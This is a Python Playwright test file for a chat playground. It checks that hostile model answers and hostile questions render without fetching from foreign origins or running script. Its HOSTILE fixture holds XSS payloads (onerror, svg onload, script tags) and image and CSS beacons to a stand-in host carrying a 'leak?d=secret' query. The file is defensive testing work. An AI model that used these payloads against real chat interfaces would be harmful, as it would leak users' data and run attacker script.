"""Untrusted text through the real page in Chromium: a hostile answer (from a loopback OpenAI-compatible
server) and a hostile question make the browser fetch nothing from any other origin and run nothing, in
the chat and in the History preview; a question with a lone surrogate gets its answer and the session
goes on."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Route, expect

from playground.context import AppContext
from tests.browser import pick_model
from tests.support import make_settings, serving

pytestmark = pytest.mark.browser
BOT = '#instruct-chat [data-testid="bot"]'
USER = '#instruct-chat [data-testid="user"]'
LEAK = "http://203.0.113.9"
HOSTILE = f"""Here is the summary you asked for.

![chart]({LEAK}/leak?d=secret)
<img src={LEAK}/img.png>
<img src=x onerror="window.__pwned = 'onerror'">
<script>window.__pwned = 'script'</script>
<a id="hostile-id" href="#">anchor with an id</a>
<svg onload="window.__pwned = 'svg'"><image href="{LEAK}/svg.png"/></svg>
<div style="background:url({LEAK}/css.png)">styled</div>
<style>body {{ background: url({LEAK}/style.png) }}</style>
<video poster="{LEAK}/poster.png"></video>
![reference][r]

[r]: {LEAK}/reference.png

- ```
  x
  ```
<img src={LEAK}/after-list-fence.png>

```mermaid
flowchart TD
  A["<img src='{LEAK}/mermaid.png'>"]
```

$$x^2$$

```html
<img src="{LEAK}/in-code.png">
```
"""


class _Hostile(BaseHTTPRequestHandler):
    """An OpenAI-compatible endpoint whose every answer is HOSTILE, streamed in a few pieces (HTTP/1.0:
    the body ends with the connection)."""

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self._send("application/json", json.dumps({"object": "list", "data": [{"id": "mallory"}]}))

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        pieces = [HOSTILE[i : i + 200] for i in range(0, len(HOSTILE), 200)]
        chunks: list[dict[str, Any]] = [
            {"choices": [{"index": 0, "delta": {"content": t}, "finish_reason": None}]} for t in pieces
        ]
        chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        self._send(
            "text/event-stream", "".join(f"data: {json.dumps(c)}\n\n" for c in chunks) + "data: [DONE]\n\n"
        )

    def _send(self, kind: str, body: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.end_headers()
        self.wfile.write(body.encode())


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[AppContext, str]]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    Thread(target=server.serve_forever, daemon=True).start()
    folder = tmp_path_factory.mktemp("hostile")
    endpoints = folder / "endpoints.toml"
    endpoints.write_text(
        f'[[endpoints]]\nname = "hostile"\nbase_url = "http://127.0.0.1:{server.server_port}/v1"\n'
        'models = ["mallory"]\n'
    )
    settings = make_settings(
        folder / "data", PLAYGROUND_ENDPOINTS=str(endpoints), OLLAMA_HOST="http://127.0.0.1:9"
    )
    ctx = AppContext.create(settings)
    with serving(ctx) as url:
        yield ctx, url
    ctx.close()
    server.shutdown()


def guard(page: Page, app_url: str) -> list[str]:
    """Every request to another origin than the app's is refused and noted."""
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(app_url))
    foreign: list[str] = []

    def route(route: Route) -> None:
        url = route.request.url
        if url.startswith(origin) or url.startswith(("data:", "blob:")):
            route.continue_()
        else:
            foreign.append(url)
            route.abort()

    page.route("**/*", route)
    page.on(
        "request", lambda r: None if r.url.startswith((origin, "data:", "blob:")) else foreign.append(r.url)
    )
    return foreign


def ask(page: Page, text: str, *, lone_surrogate: bool = False) -> None:
    """Put the text in the box as a script would (no typing, so any character goes), then send it."""
    page.locator("#instruct-input textarea").evaluate(
        "(el, [text, lone]) => { el.value = text + (lone ? String.fromCharCode(0xD800) : '');"
        " el.dispatchEvent(new Event('input', { bubbles: true })); }",
        [text, lone_surrogate],
    )
    page.click("#instruct-send")


def assert_harmless(page: Page, foreign: list[str]) -> None:
    page.wait_for_timeout(1500)  # let late loads (mermaid, KaTeX, images) happen if they would
    assert foreign == [], f"the page fetched from other origins: {foreign}"
    assert page.evaluate("window.__pwned") is None, "a script from the message ran"
    assert page.locator("#hostile-id").count() == 0, "an id attribute survived"


@pytest.mark.parametrize("as_question", [False, True], ids=["answer", "question"])
def test_hostile_markdown_fetches_nothing_and_runs_nothing(
    page: Page, hostile_app: tuple[AppContext, str], as_question: bool
) -> None:
    ctx, url = hostile_app
    foreign = guard(page, url)
    page.goto(url)
    page.wait_for_selector("#instruct-input textarea")
    pick_model(page, ctx, "mallory@hostile")
    ask(page, HOSTILE if as_question else "Summarise the page for me.")
    answer = page.locator(BOT).first
    expect(answer).to_contain_text("Here is the summary", timeout=30_000)
    expect(page.locator(BOT).nth(1)).to_contain_text("tok/s", timeout=30_000)
    assert_harmless(page, foreign)
    expect(answer).to_contain_text("<img src=x onerror")  # raw HTML shows as text
    expect(answer.get_by_role("link", name="chart", exact=True)).to_have_attribute(
        "href", f"{LEAK}/leak?d=secret"
    )
    if as_question:
        expect(page.locator(USER).first).to_contain_text("<script>window.__pwned")

    page.get_by_role("tab", name="History").click()
    title = "Summarise the page" if not as_question else "Here is the summary"
    cell = page.locator("#history-list [role=gridcell]").filter(has_text=title).first
    expect(cell).to_be_visible(timeout=10_000)
    cell.click()
    expect(page.locator("#history-preview")).to_contain_text("Here is the summary", timeout=15_000)
    assert_harmless(page, foreign)


def test_a_lone_surrogate_in_a_question_leaves_the_session_working(
    page: Page, app_url: str, ctx: AppContext
) -> None:
    marker = f"surrogate-{time.time_ns()}"
    page.goto(app_url)
    page.wait_for_selector("#instruct-input textarea")
    page.locator("#instruct-max-new-tokens input[type=number]").fill("24")
    page.locator("#instruct-max-new-tokens input[type=number]").press("Enter")
    ask(page, f"Say hello. {marker} ", lone_surrogate=True)
    expect(page.locator(BOT).nth(1)).to_contain_text("tok/s", timeout=60_000)
    ask(page, "What is the capital of France?")
    expect(page.locator(BOT).nth(3)).to_contain_text("tok/s", timeout=60_000)

    [summary] = ctx.history.conversations.list_all_conversations(search=marker)
    messages = ctx.history.conversations.get_conversation(
        ctx.history.conversations.owner_of(summary.id), summary.id
    ).messages
    assert [m.role for m in messages] == ["user", "assistant", "user", "assistant"]
    assert messages[0].text == f"Say hello. {marker} \ufffd"  # the lone surrogate, replaced
    assert all(m.text for m in messages), "every question has its answer"
